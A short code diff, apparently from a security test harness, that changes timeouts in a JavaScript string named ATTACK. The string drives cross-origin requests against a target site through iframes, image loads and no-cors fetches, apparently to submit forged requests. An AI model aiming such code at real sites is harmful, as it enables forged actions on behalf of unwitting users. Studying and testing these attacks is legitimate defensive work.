@@ -44,7 +44,7 @@ ATTACK = """async ({target, paths, reads, bodies, dispatcher}) => {
     const place = turn++ % frames.length, frame = frames[place];
     lanes[place] = lanes[place].then(() => new Promise(done => {
       frame.onload = done;
-      setTimeout(done, 1500);
+      setTimeout(done, 30000);  // only a frame that hangs: a form that leaves it before it has sent is lost
       go(frame);
     }));
   };
@@ -72,7 +72,7 @@ ATTACK = """async ({target, paths, reads, bodies, dispatcher}) => {
   for (const path of reads) {
     all.push(send(path, {mode: "no-cors"}));
     const image = document.createElement("img");
-    all.push(new Promise(done => { image.onload = image.onerror = done; setTimeout(done, 1500); }));
+    all.push(new Promise(done => { image.onload = image.onerror = done; setTimeout(done, 30000); }));
     image.src = target + path;
     inFrame((frame) => { frame.src = target + path; });
   }
